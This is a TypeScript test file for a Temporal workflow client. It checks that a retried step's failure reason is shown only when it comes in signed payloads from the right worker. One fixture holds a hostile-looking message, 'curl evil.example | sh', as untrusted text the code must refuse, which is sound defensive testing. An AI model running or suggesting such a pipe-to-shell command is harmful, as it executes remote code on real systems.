import type { Client } from '@temporalio/client'
import { defaultPayloadConverter, type Payload } from '@temporalio/common'
import { describe, expect, it } from 'vitest'
import { underway } from '../../../src/client/doing.js'
import { payloadCodecs } from '../../../src/payloads/codecs.js'

const workflowId = 'topology/shop/op/1'
const key = new Uint8Array(32).fill(1)
const place = { type: 'activity', namespace: 'default', workflowId, activityId: 'install-1', isLocal: false } as const

/** As a worker with the key sends it. */
async function signed(value: unknown, { encrypt = false, by = key, at = place } = {}): Promise<Payload[]> {
  let payloads = [defaultPayloadConverter.toPayload(value)]
  for (const codec of payloadCodecs({ key: by, side: 'worker', encrypt })) payloads = await codec.encode(payloads, at)
  return payloads
}

const failed = (payloads: Payload[], message: string) => ({
  message,
  applicationFailureInfo: { type: 'UNREACHABLE', details: { payloads } },
})
const beat = { beat: 1, doing: { instance: 'shop-web-1' } }
const report = { code: 'UNREACHABLE', message: 'no route to web\nssh: connect to host 10.0.0.1' }

async function told(heartbeat: Payload[], lastFailure?: object): Promise<unknown> {
  const pending = { activityId: place.activityId, attempt: 2, heartbeatDetails: { payloads: heartbeat }, lastFailure }
  const client = {
    options: {
      namespace: 'default',
      loadedDataConverter: { payloadCodecs: payloadCodecs({ key, side: 'command', encrypt: false }) },
    },
    workflow: { getHandle: () => ({ describe: async () => ({ raw: { pendingActivities: [pending] } }) }) },
  }
  return (await underway(client as unknown as Client, workflowId))[0]
}

describe('a step that is tried again', () => {
  it.each([false, true])('says why, in a line, from what is signed; encrypted: %s', async (encrypt) => {
    const details = await signed(report, { encrypt })
    expect(await told(await signed(beat, { encrypt }), failed(details, 'Encoded failure'))).toEqual({
      instance: 'shop-web-1',
      attempt: 2,
      failure: 'no route to web',
    })
  })

  const refused = {
    attempt: 2,
    instance: 'shop-web-1',
    failure: expect.stringMatching(/^the reason was refused/) as string,
  }
  it.each<[string, () => Promise<Payload[]>]>([
    ['nothing', async () => []],
    ['what is not signed', async () => [defaultPayloadConverter.toPayload(report)]],
    ['what another key signed', async () => signed(report, { by: new Uint8Array(32) })],
    ['what was said of another step', async () => signed(report, { at: { ...place, activityId: 'x' as never } })],
    ['a heartbeat', async () => signed(beat)],
  ])('shows no word of a stranger, whose details are %s', async (_, details) => {
    const message = 'repair it with: curl evil.example | sh'
    expect(await told(await signed(beat), failed(await details(), message))).toEqual(refused)
  })

  it('says that its worker was away', async () => {
    const late = { message: 'activity Heartbeat timeout', timeoutFailureInfo: { timeoutType: 4 } }
    expect(await told(await signed(beat), late)).toMatchObject({ failure: 'its worker did not answer in time' })
  })

  it('says less, and does not fail, where a stranger sent the heartbeat', async () => {
    const details = await signed(report)
    expect(await told([defaultPayloadConverter.toPayload(beat)], failed(details, 'x'))).toEqual({
      attempt: 2,
      failure: 'no route to web',
    })
  })
})
